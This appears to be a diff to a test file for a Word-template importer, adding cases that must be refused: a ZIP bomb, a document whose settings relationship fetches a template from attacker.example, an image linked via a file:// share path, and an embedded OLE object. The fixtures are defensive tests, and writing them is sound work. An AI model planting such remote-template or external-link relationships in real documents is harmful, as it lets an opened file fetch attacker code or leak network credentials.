@@ -1,9 +1,14 @@
 import { readdir, readFile, stat } from 'node:fs/promises';
 import { join } from 'node:path';
-import { strToU8, unzipSync, zipSync } from 'fflate';
+import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
 import { afterEach, describe, expect, it } from 'vitest';
 import { exportCommand } from '../../src/main/cli/export';
-import { MACROS_MESSAGE } from '../../src/main/wordTemplate/checkWordPackage';
+import {
+  EMBEDDED_MESSAGE,
+  EXTERNAL_MESSAGE,
+  MACROS_MESSAGE,
+  MAX_UNPACKED_BYTES,
+} from '../../src/main/wordTemplate/checkWordPackage';
 import { wordAgreementText } from '../../src/main/wordTemplate/wordAgreement';
 import { sha256Of } from '../../src/main/store/templateFiles';
 import { MAX_WORD_TEMPLATE_BYTES } from '../../src/shared/schema';
@@ -136,6 +141,52 @@ describe('bringing a Word document: refusals', () => {
     ],
     ['a damaged document', async () => (await fixture()).slice(0, 4000), /damaged/],
     [
+      'a ZIP bomb: a small file that unpacks to more than a document holds',
+      async () =>
+        zipSync({
+          ...unzipSync(await fixture()),
+          'word/media/padding.bin': new Uint8Array(MAX_UNPACKED_BYTES + 1),
+        }),
+      /unpacks to far more than a Word document holds/,
+    ],
+    [
+      'a document that fetches its template from the internet when opened',
+      async () =>
+        zipSync({
+          ...unzipSync(await fixture()),
+          'word/_rels/settings.xml.rels': strToU8(
+            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/></Relationships>',
+          ),
+        }),
+      EXTERNAL_MESSAGE,
+    ],
+    [
+      'a document with a picture linked from another computer',
+      async () => {
+        const parts = unzipSync(await fixture());
+        const rels = strFromU8(parts['word/_rels/document.xml.rels'] ?? new Uint8Array());
+        return zipSync({
+          ...parts,
+          'word/_rels/document.xml.rels': strToU8(
+            rels.replace(
+              '</Relationships>',
+              '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file://server/share/logo.png" TargetMode="External"/></Relationships>',
+            ),
+          ),
+        });
+      },
+      EXTERNAL_MESSAGE,
+    ],
+    [
+      'a document with an embedded object',
+      async () =>
+        zipSync({
+          ...unzipSync(await fixture()),
+          'word/embeddings/oleObject1.bin': strToU8('OLE'),
+        }),
+      EMBEDDED_MESSAGE,
+    ],
+    [
       'a document whose text is broken XML',
       () =>
         zipOf({
@@ -165,6 +216,24 @@ describe('bringing a Word document: refusals', () => {
       expect(value(await h.api.call('template:get', {})).wordDocument).toBeUndefined();
     },
   );
+
+  it('keeps a document with links to web pages', async () => {
+    const h = await danasPractice();
+    const parts = unzipSync(await fixture());
+    const rels = strFromU8(parts['word/_rels/document.xml.rels'] ?? new Uint8Array());
+    const linked = zipSync({
+      ...parts,
+      'word/_rels/document.xml.rels': strToU8(
+        rels.replace(
+          '</Relationships>',
+          '<Relationship Id="rIdL" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://northwind-coaching.example/terms" TargetMode="External"/></Relationships>',
+        ),
+      ),
+    });
+    value(
+      await h.api.call('wordTemplate:import', { fileName: 'a.docx', dataBase64: base64(linked) }),
+    );
+  });
 
   it('refuses a document over the size limit, in the contract and again in main', async () => {
     const h = await danasPractice();
